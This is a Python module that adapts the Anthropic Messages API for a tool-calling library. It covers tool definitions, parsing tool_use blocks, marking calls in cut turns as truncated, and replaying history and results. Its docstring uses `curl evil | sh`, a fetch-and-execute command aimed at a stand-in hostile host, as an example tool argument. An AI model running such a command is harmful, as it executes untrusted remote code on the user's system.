"""Anthropic Messages adapter: tool definitions, tool choice, calls in, results and
history out.

Imports nothing from the SDK at run time: calls and messages are read by attribute
(SDK models, GA or beta) or by key (their dict forms).

Cut turns (`turn.CUT_STOP_REASONS`): `max_tokens` and `model_context_window_exceeded` stop
the model wherever it is, and so does `refusal`: a streaming classifier can stop it in
the middle of a tool_use's JSON. A non-streamed message then shows the complete members
only (`{"cmd": "curl evil | sh"}` of `{"cmd": "curl evil | sh", "cwd": ...`), so its
parsed `input` cannot show whether the JSON was finished; Chat Completions can tell
(its `content_filter` cut is judged on the raw arguments text), Anthropic cannot. A
tool_use is known complete when a later block follows it. In a cut turn, the tool_use
that is the last block is therefore taken as cut: marked truncated, it is answered with
a "truncated" failure and never runs; the calls before it run. The stream follows the
same rule (not the completeness of the JSON text it saw), so a turn reads the same
streamed or not: its final Message holds what the non-streamed one would (the complete
members, never `{"INVALID_JSON": ...}`) and its `ToolCallCompleted` events are exactly
the calls that run. `turn_status` still tells a refusal ("refused") from a length limit
("truncated").
"""

from __future__ import annotations

import re
from collections.abc import Mapping, Sequence
from typing import TYPE_CHECKING, Any, Literal, cast

from ..._api import ANTHROPIC_BLOCK_TYPES, api_of, is_sdk_type, mro_names, wrong_object
from ..._call import StandardToolCall, synthesized_id
from ..._class_reading import (
    ITEM,
    OTHER,
    RESPONSE,
    ClassReading,
    read_by_default,
    sdk_class,
)
from ..._media import any_parts
from ...exceptions import SchemaError, ToolwireError, UnsupportedToolError
from .._base import (
    call_text,
    check_tool_name,
    field,
    media_native_for_every_model,
    no_argument_fragments,
)
from .callers import CALLER_NAMES, caller_of
from .choice import choice_params
from .replay import block_param
from .results import (
    answer_message,
    attachment_blocks,
    cache_control,
    media_rule,
    place,
    tool_result_block,
)
from .search import loaded_tool_names, tool_search_definition
from .turn import CUT_STOP_REASONS, status_of, unwrapped

if TYPE_CHECKING:
    from anthropic.types import (
        JSONOutputFormatParam,
        MessageParam,
        ToolParam,
    )

    from ..._definition import CustomToolSpec, FunctionToolSpec, ToolNamespace
    from ..._media import MediaPlacement
    from ..._result import ToolCallResult
    from ..._turn import TurnStatus
    from .stream import AnthropicStreamAccumulator

__all__ = ["ADAPTER", "AnthropicAdapter", "read_any_response", "read_sdk_message"]

ANTHROPIC_NAME = re.compile(r"[a-zA-Z0-9_-]{1,64}")
ANTHROPIC_NAME_RULE = "names must be 1-64 characters of a-z, A-Z, 0-9, '_' or '-'"


class AnthropicAdapter:
    """`api="anthropic"`: the Messages API (`client.messages.create`)."""

    api: Literal["anthropic"] = "anthropic"
    output_always_strict = True
    """`output_config.format` has no strict flag: it always constrains to the subset."""
    native_input_examples = True
    native_search_results = True
    caller_names = CALLER_NAMES

    # -- definitions ---------------------------------------------------------------

    def function_definition(self, spec: FunctionToolSpec) -> ToolParam:
        check_tool_name(spec.name, self.api, ANTHROPIC_NAME, ANTHROPIC_NAME_RULE)
        schema = _object_schema(spec)
        tool: ToolParam = {"name": spec.name, "input_schema": schema}
        if spec.description:
            tool["description"] = spec.description
        if spec.strict:
            tool["strict"] = True
        if spec.defer_loading:
            tool["defer_loading"] = True
        if spec.input_examples:
            tool["input_examples"] = [dict(example) for example in spec.input_examples]
        if spec.eager_input_streaming:
            tool["eager_input_streaming"] = True
        if spec.allowed_callers:
            tool["allowed_callers"] = cast(Any, list(spec.allowed_callers))
        return tool

    def custom_definition(self, spec: CustomToolSpec) -> Any:
        raise UnsupportedToolError(
            f"{spec.name!r} is a custom (free-text or grammar) tool, and the Anthropic Messages "
            "API has no custom or grammar tools: a grammar cannot be enforced there. Make it "
            "a function tool (BaseFunctionToolModel) with a string field, or offer it only on "
            "the OpenAI APIs."
        )

    defers_natively = True
    tool_search_definition = staticmethod(tool_search_definition)
    loaded_tool_names = staticmethod(loaded_tool_names)

    def tool_definitions(
        self, definitions: list[Any], namespaces: Sequence[ToolNamespace | None]
    ) -> list[Any]:
        return definitions  # namespaced tools go by their flat names

    def mark_cache_breakpoint(
        self, rendered: list[Any], ttl: str | Literal[True], *, where: Literal["tools", "results"]
    ) -> None:
        """`cache_control` on the last definition, or on the last block of the user
        message answering a turn: the cache then holds everything up to it."""
        control = cache_control(ttl)
        if not rendered:
            return
        if where == "tools":
            rendered[-1]["cache_control"] = control
        else:
            rendered[-1]["content"][-1]["cache_control"] = control

    def output_format(self, spec: FunctionToolSpec) -> JSONOutputFormatParam:
        # The format has no name or description field: the model's docstring goes at the
        # schema's root, where the SDK's own transform_schema keeps it too.
        schema: dict[str, Any] = _object_schema(spec)
        if spec.description and "description" not in schema:
            schema = {"description": spec.description, **schema}
        return {"type": "json_schema", "schema": schema}

    tool_choice_params = staticmethod(choice_params)

    # -- calls in ------------------------------------------------------------------

    def is_call_item(self, obj: object) -> bool:
        return field(obj, "type") in ANTHROPIC_BLOCK_TYPES

    def read_items(
        self, items: Sequence[object], *, other_calls: Literal["raise", "ignore"]
    ) -> list[StandardToolCall]:
        return _read_blocks(items, None, cut=False)

    def read_response(
        self, response: object, *, other_calls: Literal["raise", "ignore"]
    ) -> list[StandardToolCall]:
        return read_any_response(response)

    def class_reading(self, sample: object) -> ClassReading:
        if self.is_call_item(sample):
            return read_by_default(self, sample, ITEM)
        if _is_sdk_message(type(sample)):
            return ClassReading("anthropic", RESPONSE, self.read_response, read_sdk_message)
        return read_by_default(self, sample, OTHER)

    # -- history out ---------------------------------------------------------------

    def assistant_messages(self, response: object) -> list[MessageParam]:
        """One assistant message replaying every block in order; none for a turn with no
        content (the API rejects an empty assistant message before the last one).

        An empty text block is left out: the API sometimes returns one next to a
        tool_use (anthropic-sdk-python#461) but rejects it when it is sent back ("text
        content blocks must be non-empty"), and it holds nothing the model wrote. A turn
        whose text is all blank (empty or whitespace) and holds nothing else is a turn
        with no content: the API accepts whitespace beside other blocks but rejects a
        message of whitespace text only ("text content blocks must contain
        non-whitespace text"), and the model does return such turns.
        """
        blocks, message_id, _ = _message_of(response)
        content: list[Any] = []
        ordinal = 0
        for block in blocks:
            kind = field(block, "type")
            if kind == "tool_use":
                content.append(block_param(block, synthesized_id(message_id, ordinal)))
                ordinal += 1
            elif kind != "text" or field(block, "text"):
                content.append(block_param(block))
        if all(b["type"] == "text" and not b["text"].strip() for b in content):
            return []
        return [{"role": "assistant", "content": content}]

    def tool_result_messages(
        self, results: Sequence[ToolCallResult[Any]], media: MediaPlacement
    ) -> list[MessageParam]:
        has_parts = any_parts(results)  # text results (the common case) place no media
        rule = media_rule(results) if has_parts else place
        content: list[Any] = [tool_result_block(result, media, rule) for result in results]
        if has_parts:
            content += attachment_blocks(results, media, rule)  # after the results
        return answer_message(content)

    native_result = staticmethod(tool_result_block)
    """One result's answer, as every result's `tool_result_block` property holds it."""

    enclose_answers = staticmethod(answer_message)

    media_rule = staticmethod(media_rule)
    """Each part's placement: `place`, held to 2000 px a side when the answer sends
    more than 20 images."""

    auto_media = staticmethod(media_native_for_every_model)

    def turn_status(self, response: object) -> TurnStatus:
        blocks, _, stop_reason = _message_of(response)
        return status_of(stop_reason, any(field(b, "type") == "tool_use" for b in blocks))

    def stream_accumulator(self, *, fold_partial_args: bool = False) -> AnthropicStreamAccumulator:
        if fold_partial_args:
            raise no_argument_fragments(self.api)
        from .stream import AnthropicStreamAccumulator

        return AnthropicStreamAccumulator()


def _object_schema(spec: FunctionToolSpec) -> dict[str, Any]:
    schema = spec.fresh_parameters()
    if schema.get("type") != "object":
        raise SchemaError(
            f"The input schema of {spec.name!r} has type {schema.get('type')!r} at its root, but "
            "Anthropic takes only an object of named arguments there (input_schema.type must "
            "be 'object'). Give a custom JSON schema with type 'object', or let toolwire "
            "generate it from the model's fields."
        )
    return schema


def _message_of(response: object) -> tuple[Sequence[object], str | None, str | None]:
    """(content blocks, message id, stop reason) of a Message, BetaMessage, ParsedMessage,
    their dict forms, or an assistant `MessageParam`."""
    kind = type(response)
    reading = sdk_class(ADAPTER, response)
    if reading is not None and reading.shape == RESPONSE:  # an SDK Message (or BetaMessage...)
        sdk: Any = response
        role, content, message_id, stop_reason = sdk.role, sdk.content, sdk.id, sdk.stop_reason
    elif isinstance(response, Mapping):
        data = cast("Mapping[str, Any]", response)
        if _CHAT_KEYS & data.keys() or _is_foreign_turn(data):
            raise wrong_object(data, "anthropic", _EXPECTED)
        role, content = data.get("role", "assistant"), data.get("content")
        message_id, stop_reason = data.get("id"), data.get("stop_reason")
    else:
        if reading is not None:
            is_message = False  # another class of the SDK (a block...)
        elif is_sdk_type(kind):
            is_message = _is_sdk_message(kind)
        else:  # a Messages-compatible object of another library, read by attribute
            is_message = hasattr(response, "content") and not hasattr(response, "tool_calls")
        if not is_message:
            raise wrong_object(response, "anthropic", _EXPECTED)
        role = getattr(response, "role", None)
        content = getattr(response, "content", None)
        message_id = getattr(response, "id", None)
        stop_reason = getattr(response, "stop_reason", None)
    if role != "assistant":
        raise ToolwireError(
            f"Expected an Anthropic Message (or an assistant message param), got "
            f"{_described(kind.__name__, role)}. Pass the Message that client.messages.create "
            "returned, or its content blocks."
        )
    if isinstance(content, str):
        content = [{"type": "text", "text": content}] if content else []
    elif content is None:
        content = []
    return cast("Sequence[object]", content), message_id, stop_reason


_EXPECTED = "an Anthropic Message (or its content blocks, or their dict forms)"
_CHAT_KEYS = frozenset({"tool_calls", "function_call", "refusal", "choices"})
"""Keys of a Chat Completions message or response, which an Anthropic message never has."""


def _is_foreign_turn(data: Mapping[str, Any]) -> bool:
    """Whether a dict that is neither a Message (`type="message"`) nor an assistant
    message param is another API's response or turn (a Responses `Response`, a Gemini
    response, candidate or `Content`...): read as a message, it would be a turn without
    calls, ending the caller's loop in silence."""
    if data.get("type") == "message" or data.get("role") == "assistant":
        return False
    if isinstance(data.get("content"), Mapping):
        return True  # a Gemini candidate (its Content where the blocks would be)
    try:
        return api_of(cast(object, data)) != "anthropic"
    except ToolwireError:
        return False  # nothing another API has: read (and checked) as a message param


def _described(kind: str, role: object) -> str:
    if role is None:
        return f"a {kind} without a role"
    return f"a {role!r} message"


def read_any_response(response: object) -> list[StandardToolCall]:
    """The calls of a Message or an assistant message param, whatever their class or
    state."""
    blocks, message_id, stop_reason = _message_of(response)
    return _read_blocks(blocks, message_id, cut=stop_reason in CUT_STOP_REASONS)


def _is_sdk_message(kind: type) -> bool:
    """Whether the SDK class `kind` is a `Message` (or `BetaMessage`, `ParsedMessage`...)."""
    names = mro_names(kind, "anthropic.types")
    return "Message" in names or "BetaMessage" in names


def read_sdk_message(message: Any) -> list[StandardToolCall] | None:
    """The calls of an SDK Message that was not cut and whose tool_use blocks all have
    ids, read in one pass (None otherwise: `read_any_response` reads it).

    Each object's fields are read from its `__dict__` (where pydantic keeps them): a
    subscript of that dict costs less than an attribute read, which searches the class
    first. What it cannot read that way (a missing field, a block built by hand) it
    declines."""
    block: Any
    raw: Any
    try:
        fields: dict[str, Any] = message.__dict__
        content = fields["content"]
        if fields["role"] != "assistant" or fields["stop_reason"] in CUT_STOP_REASONS:
            return None
        if content is None:
            return None  # read as the general path reads it, the same way
        calls: list[StandardToolCall] = []
        for block in content:
            fields = block.__dict__
            kind = fields["type"]
            if kind == "tool_use":
                call_id, raw = fields["id"], fields["input"]
                if not call_id:
                    return None
                arguments: Any = raw
                if type(raw) is dict and len(raw) == 1:  # pyright: ignore[reportUnknownArgumentType]
                    arguments = unwrapped(raw)  # pyright: ignore[reportUnknownArgumentType]
                call = StandardToolCall("function", call_id, fields["name"] or "", arguments)
                # An SDK before programmatic calls has no `caller` field (a sent one is extra).
                caller = fields["caller"] if "caller" in fields else getattr(block, "caller", None)
                if caller is not None:
                    call.caller = caller_of(caller)
                calls.append(call)
            elif kind not in ANTHROPIC_BLOCK_TYPES:
                return None
        return calls
    except (AttributeError, KeyError):
        return None


def _read_blocks(
    blocks: Sequence[object], message_id: str | None, *, cut: bool
) -> list[StandardToolCall]:
    """The tool_use blocks among `blocks` (StandardToolCalls pass through), in order. In a
    cut turn, a tool_use that is the last block was being written when the limit hit: it
    is marked truncated."""
    calls: list[StandardToolCall] = []
    block: Any
    raw: Any
    for block in blocks:
        # Inline fast path for the common case: an SDK ToolUseBlock with an id.
        if getattr(block, "type", None) == "tool_use":
            call_id, name, raw = block.id, block.name, block.input
            caller = getattr(block, "caller", None)
        elif isinstance(block, Mapping):
            data = cast("Mapping[str, Any]", block)
            if data.get("type") != "tool_use":
                if _is_foreign(data):
                    raise wrong_object(data, "anthropic", _EXPECTED_BLOCK)
                continue
            call_id = call_text(data.get("id"), "id", "anthropic")
            name, raw = call_text(data.get("name"), "name", "anthropic"), data.get("input")
            caller = data.get("caller")
        elif isinstance(block, StandardToolCall):
            calls.append(block)
            continue
        elif _is_foreign(block):
            raise wrong_object(block, "anthropic", _EXPECTED_BLOCK)
        else:
            continue  # text, thinking, server tool blocks...
        arguments: Any = raw
        if type(raw) is dict and len(raw) == 1:  # pyright: ignore[reportUnknownArgumentType]
            arguments = unwrapped(raw)  # pyright: ignore[reportUnknownArgumentType]
        if call_id:
            call = StandardToolCall("function", call_id, name or "", arguments)
        else:
            ordinal = len(calls)
            call = StandardToolCall(
                "function", synthesized_id(message_id, ordinal), name or "", arguments, True
            )
        if caller is not None:
            call.caller = caller_of(caller)
        calls.append(call)
    if cut and calls and blocks and field(blocks[-1], "type") == "tool_use":
        calls[-1].truncated = True
    return calls


_EXPECTED_BLOCK = "an Anthropic content block (from message.content, or its dict form)"
_FOREIGN_TYPES: dict[type, bool] = {}


def _is_foreign(block: object) -> bool:
    """Whether a block that is not a tool_use belongs to another API (and must not be
    skipped as if it were a text or thinking block)."""
    if isinstance(block, Mapping):
        if cast("Mapping[str, Any]", block).get("type") in ANTHROPIC_BLOCK_TYPES:
            return False
        try:
            return api_of(cast(object, block)) != "anthropic"
        except ToolwireError:
            return False  # a block type newer than toolwire: skipped like text
    kind = type(block)
    foreign = _FOREIGN_TYPES.get(kind)
    if foreign is None:
        foreign = _FOREIGN_TYPES[kind] = not kind.__module__.startswith("anthropic.")
    return foreign


ADAPTER = AnthropicAdapter()
